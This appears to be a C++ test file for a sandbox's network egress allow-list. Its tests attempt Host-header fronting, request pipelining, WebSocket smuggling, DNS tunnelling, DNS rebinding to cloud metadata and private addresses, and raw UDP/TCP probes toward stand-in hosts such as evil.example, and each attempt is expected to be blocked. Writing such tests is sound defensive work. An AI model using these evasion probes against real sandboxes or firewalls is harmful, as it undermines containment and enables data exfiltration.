// What a list of hosts lets out, and that it lets out nothing else. The oracles are servers that stand for
// the world (support/outside_world.hpp) and write down who came.
#include "../support/apt_repository.hpp"
#include "egress_list.hpp"

namespace pyro::testing {
namespace {

TEST_F(EgressList, WhatItNamesIsReachedAndNothingElse) {
  up(rules({at("web.example", k_http), at("*.tree.example", k_http)}));
  const auto listed = inside("curl -sS http://" + at("web.example", k_http) + "/x");
  EXPECT_EQ(listed.status, 0) << listed;
  EXPECT_NE(listed.out.find("\"path\": \"/x\""), std::string::npos) << listed;
  EXPECT_EQ(inside("curl -sS http://" + at("a.b.tree.example", k_http) + "/").status, 0);

  const auto before = world->count_of_visits();
  EXPECT_EQ(inside("curl -sS http://" + at("other.example", k_http) + "/").status, 6) << "curl: no such host";
  EXPECT_EQ(inside("curl -sS http://" + at("tree.example", k_http) + "/").status, 6);
  EXPECT_EQ(inside("curl -sS -m 5 http://" + at("web.example", k_unlisted) + "/").status, 7)
      << "curl: refused";
  EXPECT_EQ(inside("curl -sS -m 5 http://" + at("9.9.9.9", k_unlisted) + "/").status, 7);
  EXPECT_EQ(world->count_of_visits(), before) << "not even a name was asked for outside";
  EXPECT_TRUE(is_denied("other.example", "dns"));
  EXPECT_TRUE(is_denied("web.example", "tcp"));
  EXPECT_TRUE(is_denied("9.9.9.9", "tcp"));
}

TEST_F(EgressList, AnAddressOfThisMachineMustBeNamedItself) {
  up("network: {egress: [\"" + at("web.example", k_http) + "\", metadata.example]}\n");
  const auto refused = inside("curl -sS http://" + at("web.example", k_http) + "/");
  EXPECT_NE(refused.out.find("127.0.0.1 is an address of this machine"), std::string::npos) << refused;
  EXPECT_EQ(
      inside("curl -s -o /dev/null -w %{http_code} http://" + at("web.example", k_http) + "/").out, "403");
  EXPECT_EQ(inside("curl -s -o /dev/null -w %{http_code} http://metadata.example/").out, "403");
  EXPECT_TRUE(world->visits("http").empty());
}

TEST_F(EgressList, AnAddressOfThisMachineIsAgreedToAsOtherHostAccessIs) {
  spec(rules({at("web.example", k_http)}));
  const auto asked = pyro({"apply", "--yes"});
  EXPECT_EQ(asked.status, 7) << asked;
  EXPECT_NE(asked.all().find(at("127.0.0.1", k_http)), std::string::npos) << asked;
}

TEST_F(EgressList, TlsMustAskForTheServerThatWasResolved) {
  up(rules({at("web.example", k_tls), at("other.example", k_tls)}));
  const auto good = inside("curl -sS --cacert ca.pem https://" + at("web.example", k_tls) + "/");
  EXPECT_EQ(good.status, 0) << good;
  const auto client = [&](const std::string& connect, const std::string& server_name) {
    return inside(fmt::format(
        "python3 -c 'import "
        "socket,ssl;c=ssl.create_default_context();c.check_hostname=False;c.verify_mode=ssl.CERT_NONE;"
        "s=c.wrap_socket(socket.create_connection((\"{}\",{})),server_hostname={});print(s.version())'",
        connect, world->port(k_tls), server_name));
  };
  EXPECT_EQ(client("web.example", "\"web.example\"").status, 0);
  const auto before = world->visits("tls").size();
  for (const auto* name : {"\"other.example\"", "\"evil.example\"", "None"}) {
    const auto refused = client("web.example", name);
    EXPECT_NE(refused.status, 0) << name;
    EXPECT_NE(refused.err.find("ACCESS_DENIED"), std::string::npos) << refused;
  }
  EXPECT_LE(world->visits("tls").size(), before + 3) << "they were connected, and nothing was said";
  EXPECT_TRUE(is_denied("web.example", "tls"));
}

TEST_F(EgressList, HttpMustBeForTheHostThatWasResolved) {
  up(rules({at("web.example", k_http), at("other.example", k_http)}));
  const auto url = "http://" + at("web.example", k_http) + "/";
  const auto fronted = inside("curl -s -H 'Host: evil.example' " + url);
  EXPECT_NE(fronted.out.find("the request is for the host 'evil.example'"), std::string::npos) << fronted;
  EXPECT_NE(fronted.out.find("pyro network log"), std::string::npos) << "the way out";
  EXPECT_EQ(inside("curl -s -o /dev/null -w %{http_code} -x " + url + " http://evil.example/").out, "403");
  EXPECT_EQ(inside("curl -s -o /dev/null -p -x " + url + " https://evil.example/").status, 56) << "CONNECT";
  // Two on one connection, the second for another.
  const auto pipelined = inside(fmt::format(
      "python3 -c 'import socket;s=socket.create_connection((\"web.example\",{0}));"
      "s.sendall(b\"GET /first HTTP/1.1\\r\\nHost: web.example:{0}\\r\\n\\r\\nGET /second "
      "HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n\");"
      "s.settimeout(5)\ntry:\n  while s.recv(4096): pass\nexcept ConnectionResetError: pass'",
      world->port(k_http)));
  EXPECT_EQ(pipelined.status, 0) << pipelined;
  for (const auto& request : world->visits("request")) {
    EXPECT_NE(get_string(request, "path"), "/second");
    EXPECT_EQ(get_string(request, "host"), at("web.example", k_http));
  }
}

TEST_F(EgressList, AWebSocketPassesAndADeclinedOneHidesNothing) {
  up(rules({at("web.example", k_http)}));
  const auto script = [&](const std::string& path, const std::string& then) {
    return fmt::format(
        "python3 -c 'import socket;s=socket.create_connection((\"web.example\",{0}));s.settimeout(10);"
        "s.sendall(b\"GET {1} HTTP/1.1\\r\\nHost: web.example:{0}\\r\\nUpgrade: websocket\\r\\nConnection: "
        "Upgrade\\r\\n\\r\\n\");"
        "print(s.recv(12));s.sendall(b\"{2}\");data=b\"\"\nwhile not data.endswith(b\"ping\"):\n  "
        "more=s.recv(4096)\n"
        "  if not more: break\n  data+=more\nprint(data[-4:])'",
        world->port(k_http), path, then);
  };
  const auto open = inside(script("/open", "ping"));
  EXPECT_EQ(open.out, "b'HTTP/1.1 101'\nb'ping'\n") << open;
  const auto declined =
      inside(script("/declined", "GET /hidden HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n"));
  EXPECT_NE(declined.status, 0) << declined;
  for (const auto& request : world->visits("request")) {
    EXPECT_NE(get_string(request, "path"), "/hidden");
  }
}

TEST_F(EgressList, OtherProtocolsPassOnPortsThatAreNamed) {
  up(rules({at("web.example", k_greet), at("web.example", k_echo)}));
  const auto greeted = inside(fmt::format(
      "python3 -c 'import socket;s=socket.create_connection((\"web.example\",{}));s.settimeout(10);"
      "print(s.recv(100));s.sendall(b\"me\");print(s.recv(100))'",
      world->port(k_greet)));
  EXPECT_EQ(greeted.out, "b'hello, who is there?\\n'\nb'welcome me'\n") << greeted;
  const auto echoed = inside(fmt::format(
      "python3 -c 'import socket,threading,hashlib,os\ns=socket.create_connection((\"web.example\",{}))\n"
      "data=os.urandom(1<<20)*8\nthreading.Thread(target=lambda:(s.sendall(data),s.shutdown(1))).start()"
      "\ngot=b\"\"\n"
      "while True:\n  more=s.recv(1<<20)\n  if not more: break\n  got+=more\nprint(got==data)'",
      world->port(k_echo)));
  EXPECT_EQ(echoed.out, "True\n") << echoed;
}

TEST_F(EgressList, AnotherListIsAnUpdateInPlace) {
  up(rules({at("web.example", k_http), at("web.example", k_echo)})
     + "services: {holds: {command: sleep 1000}}\n");
  const auto pid = json({"status"}).at("services").at(0).at("pid");
  EXPECT_EQ(inside("curl -s -o /dev/null http://" + at("web.example", k_http) + "/").status, 0);
  auto held = start(
      {"exec", "--", "python3", "-c",
       fmt::format(
           "import "
           "socket\ns=socket.create_connection(('web.example',{}))\ns.sendall(b'x')\ns.recv(1)\nopen('open','"
           "w')\n"
           "print(s.recv(1))",
           world->port(k_echo))});
  ASSERT_TRUE(eventually([&] { return inside("test -e open").status == 0; }));
  spec(rules({at("other.example", k_http)}) + "services: {holds: {command: sleep 1000}}\n");
  const auto plan = expect(0, {"plan", "--trust"});
  EXPECT_EQ(plan.out.find("reboot"), std::string::npos) << plan;
  expect(0, {"apply", "--yes", "--trust"});
  EXPECT_EQ(json({"status"}).at("services").at(0).at("pid"), pid) << "nothing was restarted";
  EXPECT_EQ(inside("curl -s -o /dev/null http://" + at("other.example", k_http) + "/").status, 0);
  EXPECT_EQ(inside("curl -s http://" + at("web.example", k_http) + "/").status, 6);
  EXPECT_NE(held.wait().code, 0) << "its connection is no longer allowed";
}

/// Whoever still has an address that a name had reaches that name or nobody.
TEST_F(EgressList, AnAddressIsNeverAnothersLater) {
  up(rules({at("web.example", k_http)}));
  const auto address = inside("getent ahostsv4 web.example | head -1 | cut -d' ' -f1").out;
  spec(rules({at("other.example", k_http)}));
  expect(0, {"apply", "--yes", "--trust"});
  EXPECT_NE(inside("getent ahostsv4 other.example | head -1 | cut -d' ' -f1").out, address);
  const auto before = world->visits("request").size();
  const auto late = inside(
      "curl -s -H 'Host: " + at("other.example", k_http) + "' http://" + address.substr(0, address.size() - 1)
      + ":" + std::to_string(world->port(k_http)) + "/");
  EXPECT_NE(late.out.find("no rule of network.egress allows " + at("web.example", k_http)), std::string::npos)
      << late;
  EXPECT_EQ(world->visits("request").size(), before);
}

TEST_F(EgressList, DatagramsAndOtherNameServersReachNobody) {
  up(rules({at("web.example", k_http)}));
  const auto before = world->count_of_visits();
  const auto port = world->name_server().substr(world->name_server().find(':') + 1);
  const auto attack = inside(fmt::format(
      "python3 - <<'EOF'\nimport "
      "socket,struct\nq=b'\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4data\\7example\\0\\0\\1\\0\\1'\n"
      "for a,p in "
      "(('9.9.9.9',53),('127.0.0.1',{0}),('198.18.0.1',{0}),('9.9.9.9',443),('224.0.0.251',5353)):\n"
      "  s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(0.3)\n"
      "  try:\n    s.sendto(q,(a,p)); print('answer',a,s.recv(100))\n  except OSError: pass\n"
      "for a,p in "
      "(('9.9.9.9',53),('169.254.169.254',80),('10.0.0.1',80),('::ffff:127.0.0.1',{0}),('2001:db8::1',443)):"
      "\n"
      "  try:\n    s=socket.create_connection((a,p),timeout=3); s.sendall(b'GET / HTTP/1.1\\r\\nHost: "
      "x\\r\\n\\r\\n')\n"
      "    d=s.recv(100)\n    print('answer' if d and b'403' not in d else 'told',a,p,d[:20])\n"
      "  except OSError as e: pass\n"
      "t=socket.create_connection(('198.18.0.1',53),timeout=3); t.sendall(struct.pack('>H',len(q))+q); "
      "r=t.recv(600)\n"
      "print('tcp', r[2+3]&15)\nEOF",
      port));
  EXPECT_EQ(attack.status, 0) << attack;
  EXPECT_EQ(attack.out.find("answer"), std::string::npos) << attack;
  EXPECT_NE(attack.out.find("tcp 3"), std::string::npos) << "no such name, over TCP as well: " << attack;
  EXPECT_EQ(world->count_of_visits(), before);
  EXPECT_TRUE(is_denied("9.9.9.9", "udp"));
}

/// A name that carries data is asked for outside only where the list holds all names below one.
TEST_F(EgressList, NamesAreNoTunnel) {
  up(rules({at("web.example", k_http)}));
  for (const auto* name : {"c2VjcmV0.evil.example", "c2VjcmV0.web.example", "c2VjcmV0.com"}) {
    EXPECT_NE(inside(fmt::format("getent hosts {}", name)).status, 0);
  }
  for (const auto& asked : world->visits("dns")) {
    EXPECT_EQ(get_string(asked, "name").find("c2vjcmv0"), std::string::npos);
  }
}

/// A name's owner may say anything of it (rebinding).
TEST_F(EgressList, AnAnswerThatPointsElsewhereReachesNobody) {
  up(rules({at("*.near.example", k_http)}));
  Json names;
  const std::vector<std::string> near{"127.0.0.2",   "10.0.0.7",        "169.254.169.254",
                                      "192.168.0.1", "100.100.100.200", "0.0.0.0"};
  for (std::size_t i = 0; i < near.size(); ++i) {
    names[fmt::format("r{}.near.example", i)] = {near[i]};
  }
  world->set_names(names);
  for (std::size_t i = 0; i < near.size(); ++i) {
    EXPECT_EQ(
        inside(fmt::format(
                   "curl -s -m 20 -o /dev/null -w %{{http_code}} http://{}/",
                   at(fmt::format("r{}.near.example", i), k_http)))
            .out,
        "403")
        << near[i];
  }
}

/// The example of every such list: packages of one mirror, and nothing else. The oracle is who was visited.
TEST_F(EgressList, PackagesOfOneMirrorAndNothingElse) {
  if (!fs::exists("/usr/bin/apt-get") || !fs::exists("/usr/bin/dpkg-deb")) {
    GTEST_SKIP() << "needs a machine with apt";
  }
  make_apt_repository(root() / "mirror");
  OutsideWorld mirror(
      root() / "mirror-world", {{"packages.example", {"127.0.0.1"}}, {"tracker.example", {"127.0.0.1"}}},
      {{"files", "127.0.0.1", 0, (root() / "mirror").string()}, {"http"}});
  ::setenv("PYRO_NAME_SERVERS", mirror.name_server().c_str(), 1);
  const auto host = fmt::format("packages.example:{}", mirror.port(0));
  up(fmt::format("network: {{egress: [\"{}\", \"127.0.0.1:{}\"]}}\n", host, mirror.port(0)));
  const auto installed = inside(fmt::format(
      "rm -rf /etc/apt/sources.list /etc/apt/sources.list.d/*; echo 'APT::Sandbox::User \"root\";' > "
      "/etc/apt/apt.conf.d/99-root; echo 'deb [trusted=yes] http://{} ./' > /etc/apt/sources.list && apt-get "
      "update -q && "
      "apt-get install -y pyro-hello && cat /usr/share/pyro-hello/file",
      host));
  EXPECT_EQ(installed.status, 0) << installed;
  EXPECT_NE(installed.out.find("pyro-hello from the mirror"), std::string::npos) << installed;
  EXPECT_NE(inside(fmt::format("curl -sS -m 5 http://tracker.example:{}/", mirror.port(1))).status, 0);
  EXPECT_NE(inside(fmt::format("curl -sS -m 5 http://packages.example:{}/", mirror.port(1))).status, 0);
  EXPECT_FALSE(mirror.visits("files").empty());
  EXPECT_TRUE(mirror.visits("http").empty()) << "the listener that nobody may reach";
  for (const auto& asked : mirror.visits("dns")) {
    EXPECT_EQ(get_string(asked, "name"), "packages.example");
  }
}

TEST_F(EgressList, SetupStepsHaveTheirOwn) {
  const auto url = "http://" + at("web.example", k_http) + "/";
  write_file(
      project() / "pyro.yaml", "version: 1\nname: test\nseed: {from: .}\nenvironment:\n  image: host\n  "
                               "setup: [{id: fetch, run: 'curl -sfS "
                                   + url + " -o /etc/fetched', egress: [\"" + at("web.example", k_http)
                                   + "\", \"" + at("127.0.0.1", k_http) + "\"]}]\n");
  expect(0, {"apply", "--yes", "--trust"});
  EXPECT_NE(inside("cat /etc/fetched").out.find("web.example"), std::string::npos);
  EXPECT_NE(inside("curl -s -m 5 " + url).status, 0) << "what runs has none";
}

TEST_F(EgressList, TheLogTellsAndProposes) {
  up(rules({at("web.example", k_http)}));
  EXPECT_EQ(inside("curl -s -o /dev/null http://" + at("web.example", k_http) + "/").status, 0);
  EXPECT_NE(inside("curl -s https://registry.example/").status, 0);
  ASSERT_TRUE(is_denied("registry.example", "dns"));
  const auto log = json({"network", "log"});
  const auto& allowed = log.at("records").at(0);
  EXPECT_EQ(allowed.at("verdict"), "allowed");
  EXPECT_EQ(allowed.at("rule"), at("web.example", k_http));
  EXPECT_EQ(allowed.at("address"), "127.0.0.1");
  EXPECT_EQ(log.at("proposal"), (Json{"registry.example", at("web.example", k_http)}));
  const auto text = expect(0, {"network", "log"}).out;
  EXPECT_NE(text.find("no rule of network.egress allows registry.example"), std::string::npos) << text;
  const auto learned = expect(0, {"network", "log", "--learn"}).out;
  EXPECT_NE(learned.find("    - registry.example\n"), std::string::npos) << learned;
  EXPECT_NE(expect(0, {"network", "log", "--hosts"}).out.find(at("web.example", k_http)), std::string::npos);
  expect(0, {"stop"});
  EXPECT_EQ(json({"network", "log"}).at("records").at(0), allowed) << "it outlives the sandbox";
}

TEST_F(EgressList, ManyConnectionsAtOnce) {
  up(rules({at("web.example", k_echo)}));
  const auto many = inside(fmt::format(
      "python3 -c 'import socket\nall=[socket.create_connection((\"web.example\",{})) for _ in range(400)]\n"
      "[s.sendall(b\"x\") for s in all]\nprint(sum(len(s.recv(1)) for s in all))'",
      world->port(k_echo)));
  EXPECT_EQ(many.out, "400\n") << many;
}

TEST_F(EgressList, AListThatCanNeverMatchIsRefusedInTheFile) {
  for (const auto* rule :
       {"http://example.org", "example.org:99999", "localhost", "a.*.example", "10.0.0.5/8"}) {
    spec(std::string("network: {egress: [\"") + rule + "\"]}\n");
    const auto refused = expect(65, {"validate"});
    EXPECT_NE(refused.all().find("pyro.yaml:"), std::string::npos) << refused;
    EXPECT_NE(refused.all().find(rule), std::string::npos) << refused;
  }
}

TEST_F(EgressList, ABackendThatCannotHoldItRefusesIt) {
  spec("backend: host\nisolation: host\nnetwork: {egress: [example.org]}\n");
  const auto refused = pyro({"apply", "--yes", "--trust", "--allow-host-compat"});
  EXPECT_EQ(refused.status, 10) << refused;
  EXPECT_NE(refused.all().find("cannot limit egress"), std::string::npos) << refused;
}

} // namespace
} // namespace pyro::testing
